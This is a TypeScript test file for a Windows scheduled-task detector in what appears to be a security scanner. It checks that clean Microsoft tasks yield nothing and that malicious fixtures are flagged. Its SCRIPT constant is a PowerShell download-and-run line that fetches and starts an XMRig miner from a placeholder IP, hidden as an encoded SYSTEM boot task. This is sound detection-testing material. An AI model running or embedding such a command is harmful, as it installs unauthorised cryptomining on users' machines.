// Tests for windows-scheduled-task: Microsoft's tasks (defrag, rundll32 pnpclean, Defender's scan
// from ProgramData, Edge's and OneDrive's updaters, a COM task) give nothing; a hidden SYSTEM task
// running `powershell -nop -w hidden -enc …` that fetches and starts XMRig is critical with the
// decoded script in its evidence; a task starting win1logon.exe from ProgramData merges with that
// file; a TaskCache entry without SD is a hidden task, one without XML is medium.
import { describe, expect, it } from 'vitest';
import { defaultIocDir, loadRuleset } from '../../iocs/load.js';
import { FindingSchema } from '../../model/finding.js';
import {
  cleanWindows,
  encodedPowerShell,
  failedWindowsSnapshot,
  task,
  windowsSnapshot,
} from '../../../test/helpers/windows-detect-builders.js';
import { runDetectors } from '../run.js';
import { windowsScheduledTask } from './windows-scheduled-task.js';

const ruleset = await loadRuleset([defaultIocDir()]);
const SCRIPT =
  '$u=\'http://198.51.100.7/xmrig.exe\';(New-Object Net.WebClient).DownloadFile($u,"$env:TEMP\\sysupd.exe");Start-Process "$env:TEMP\\sysupd.exe" -ArgumentList \'-o stratum+tcp://pool.minexmr.com:4444 --donate-level 1\'';

describe('windows-scheduled-task', () => {
  it("clean: Microsoft's tasks, Defender's scan, Edge and OneDrive updaters, a COM handler", () => {
    expect(runDetectors(windowsSnapshot(cleanWindows()), ruleset, [windowsScheduledTask])).toEqual({
      findings: [],
      skipped: [],
    });
  });

  it('findings: an encoded PowerShell miner task, a look-alike started by a task, hidden and file-less cache entries', () => {
    const w = cleanWindows();
    w.tasks!.push(
      task('\\Microsoft\\Windows\\UpdateOrchestrator\\Refresh', 'powershell.exe', encodedPowerShell(SCRIPT), {
        hidden: true,
        triggers: [{ kind: 'boot' }],
      }),
      task('\\WinLogonCheck', 'C:\\ProgramData\\Intel\\win1logon.exe', '-s', {
        actions: [
          {
            type: 'exec',
            command: 'C:\\ProgramData\\Intel\\win1logon.exe',
            arguments: '-s',
            image: { file: '/ProgramData/Intel/win1logon.exe', exists: true },
          },
        ],
      }),
    );
    w.taskCache!.push(
      {
        path: '\\SysHealth',
        id: '{6A0F3C1D-2222-4D55-8E11-0C2B3A4D5E6F}',
        sdMissing: true,
        xmlExists: true,
        actions: ['C:\\Windows\\Temp\\svc.exe'],
      },
      { path: '\\Leftover', sdMissing: false, xmlExists: false },
    );
    const { findings } = runDetectors(windowsSnapshot(w), ruleset, [windowsScheduledTask]);
    for (const f of findings) expect(FindingSchema.parse(f)).toEqual(f);
    const by = new Map(findings.map((f) => [f.data?.task, f]));
    expect([...by.keys()].sort()).toEqual([
      '\\Leftover',
      '\\Microsoft\\Windows\\UpdateOrchestrator\\Refresh',
      '\\SysHealth',
      '\\WinLogonCheck',
    ]);
    const ps = by.get('\\Microsoft\\Windows\\UpdateOrchestrator\\Refresh')!;
    expect(ps).toMatchObject({
      level: 'critical',
      kind: 'open-source-miner',
      messageId: 'taskRuns',
      data: { aggravated: 'hidden, SYSTEM at boot' },
    });
    expect(ps.evidence).toContainEqual(
      expect.objectContaining({
        field: expect.stringContaining('(decoded)'),
        value: expect.stringContaining('DownloadFile'),
      }),
    );
    expect(ps.remediate[0]).toMatchObject({
      type: 'windows-command',
      object: 'task',
      command:
        "Stop-ScheduledTask -TaskPath '\\Microsoft\\Windows\\UpdateOrchestrator\\' -TaskName 'Refresh'; Unregister-ScheduledTask -TaskPath '\\Microsoft\\Windows\\UpdateOrchestrator\\' -TaskName 'Refresh' -Confirm:$false",
    });
    expect(by.get('\\WinLogonCheck')).toMatchObject({ level: 'critical', kind: 'driver' });
    expect(by.get('\\WinLogonCheck')!.remediate).toContainEqual({
      type: 'quarantine-file',
      path: '/ProgramData/Intel/win1logon.exe',
    });
    expect(by.get('\\SysHealth')).toMatchObject({ level: 'high', messageId: 'hiddenTask' });
    expect(by.get('\\SysHealth')!.remediate[0]).toMatchObject({
      command: expect.stringContaining('TaskCache\\Tree\\SysHealth'),
    });
    expect(by.get('\\Leftover')).toMatchObject({ level: 'medium', messageId: 'noXml' });
  });

  it('skipped: the task files could not be read', () => {
    expect(runDetectors(failedWindowsSnapshot(), ruleset, [windowsScheduledTask]).skipped).toEqual([
      { ruleId: 'windows-scheduled-task', missing: ['windows-tasks'] },
    ]);
  });
});
